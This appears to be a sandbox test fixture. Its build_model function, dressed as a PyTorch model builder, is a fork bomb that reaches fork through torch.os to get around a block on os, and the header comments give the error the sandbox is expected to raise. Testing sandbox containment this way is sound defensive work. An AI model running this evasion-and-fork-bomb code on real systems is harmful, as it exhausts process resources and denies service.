# expect: build
# message: BlockingIOError: [Errno 11] Resource temporarily unavailable
# expect-hook: build
# message-hook: sandbox: os.fork is not allowed
# static: skip
# The payload of escape_forwardref_fork_bomb, through torch.os: without the hook, RLIMIT_NPROC (per
# uid) stops the bomb; the children are killed and reaped with the candidate's pid namespace.
import math
import signal

import torch
import torch.nn as nn


def build_model(input_shape, num_classes):
    while True:
        if torch.os.fork() == 0:
            signal.pause()
            torch.os._exit(0)
    return nn.Sequential(nn.Flatten(), nn.Linear(math.prod(input_shape), num_classes))
